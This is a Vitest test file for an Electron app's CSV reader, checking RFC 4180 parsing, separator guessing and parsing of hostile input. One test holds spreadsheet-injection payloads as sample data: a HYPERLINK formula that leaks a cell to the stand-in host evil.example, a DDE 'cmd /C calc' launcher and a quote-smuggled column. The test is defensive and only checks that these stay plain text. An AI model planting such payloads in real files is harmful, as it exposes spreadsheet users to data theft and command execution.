/** The station's CSV reader (RFC 4180 §2) and its separator guess. */
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { guessSeparator, readCsv } from '../../../electron/core/csv.js';

describe('readCsv (RFC 4180 §2)', () => {
  test('§2.1/2.2: records end with CRLF, the last one may not; LF and a lone CR end records too', () => {
    expect(readCsv('a,b\r\nc,d')).toEqual([
      { line: 1, fields: ['a', 'b'] },
      { line: 2, fields: ['c', 'd'] },
    ]);
    expect(readCsv('a\nb\rc\r\n').map((r) => [r.line, r.fields[0]])).toEqual([
      [1, 'a'],
      [2, 'b'],
      [3, 'c'],
    ]);
  });

  test('§2.4: empty fields and spaces are kept as they are', () => {
    expect(readCsv(' a ,,b,\n')).toEqual([{ line: 1, fields: [' a ', '', 'b', ''] }]);
  });

  test('§2.5–2.7: quoted fields may hold separators, line breaks and doubled quotes; lines are counted through them', () => {
    const text = '"x, y","say ""hi"""\r\n"multi\r\nline\nbreaks",z\nlast,"row"';
    expect(readCsv(text)).toEqual([
      { line: 1, fields: ['x, y', 'say "hi"'] },
      // Every line break reads as LF, inside fields too.
      { line: 2, fields: ['multi\nline\nbreaks', 'z'] },
      { line: 5, fields: ['last', 'row'] },
    ]);
  });

  test('a quote inside an unquoted field is text', () => {
    expect(readCsv('5" floppy,b')).toEqual([{ line: 1, fields: ['5" floppy', 'b'] }]);
  });

  test('a byte order mark is skipped and blank lines are skipped, keeping line numbers', () => {
    expect(readCsv('\uFEFFa,b\n\n\r\nc,d\n')).toEqual([
      { line: 1, fields: ['a', 'b'] },
      { line: 4, fields: ['c', 'd'] },
    ]);
    expect(readCsv('')).toEqual([]);
    expect(readCsv('\uFEFF')).toEqual([]);
  });

  test('a semicolon separator leaves commas in fields', () => {
    expect(readCsv('a;"b;c";1,5\n', ';')).toEqual([{ line: 1, fields: ['a', 'b;c', '1,5'] }]);
  });

  test('an unclosed quote is INVALID_INPUT naming the line the record starts on', () => {
    expect(() => readCsv('a,b\nc,"open\nmore')).toThrow(expect.objectContaining({ code: 'INVALID_INPUT', details: { line: 2 } }));
  });
});

describe('guessSeparator', () => {
  test('semicolons only on the first non-blank line → semicolon, else comma', () => {
    expect(guessSeparator('\n \nid;name\n')).toBe(';');
    expect(guessSeparator('\uFEFFid;name\n')).toBe(';');
    expect(guessSeparator('id,name;x\n')).toBe(',');
    expect(guessSeparator('id\n')).toBe(',');
  });
});

describe('readCsv on hostile files (csv-parse underneath)', () => {
  /** RFC 4180 text of `records`, every field quoted. */
  const write = (records: string[][], eol: string) => records.map((r) => r.map((f) => `"${f.replace(/"/g, '""')}"`).join(',')).join(eol) + eol;

  test('any records written as RFC 4180 read back field for field, each on the line it starts on', () => {
    const field = fc.string({ unit: fc.constantFrom('a', 'Z', ' ', ',', ';', '"', '\n', '=', 'é', '\u0000') });
    fc.assert(
      fc.property(fc.array(fc.array(field, { minLength: 1, maxLength: 5 }), { maxLength: 8 }), fc.constantFrom('\n', '\r\n', '\r'), (records, eol) => {
        // A record that is one empty field is a blank line: skipped by design.
        const kept = records.filter((r) => !(r.length === 1 && r[0] === ''));
        let line = 1;
        const expected = kept.map((fields) => {
          const start = line;
          line += 1 + fields.join('').split('\n').length - 1;
          return { line: start, fields };
        });
        expect(readCsv(write(kept, eol))).toEqual(expected);
      }),
    );
  });

  test('injection attempts stay data: formulas are text, quotes cannot add a column or a record', () => {
    const text = [
      'given_name,surname',
      '=HYPERLINK("http://evil.example/?"&A1;"x"),@SUM(1+1)',
      '"Ada"",""Evil",+cmd|\' /C calc\'!A0',
      '"two\nlines, one field","-2+3"',
      '\'quoted\'\t,"x"',
    ].join('\r\n');
    expect(readCsv(text)).toEqual([
      { line: 1, fields: ['given_name', 'surname'] },
      { line: 2, fields: ['=HYPERLINK("http://evil.example/?"&A1;"x")', '@SUM(1+1)'] },
      { line: 3, fields: ['Ada","Evil', "+cmd|' /C calc'!A0"] },
      { line: 4, fields: ['two\nlines, one field', '-2+3'] },
      { line: 6, fields: ["'quoted'\t", 'x'] },
    ]);
  });

  test('an unclosed quote after blank lines names the line its record starts on', () => {
    expect(() => readCsv('a,b\n\n\nc,"open\nmore\n')).toThrow(expect.objectContaining({ code: 'INVALID_INPUT', details: { line: 4 } }));
  });
});
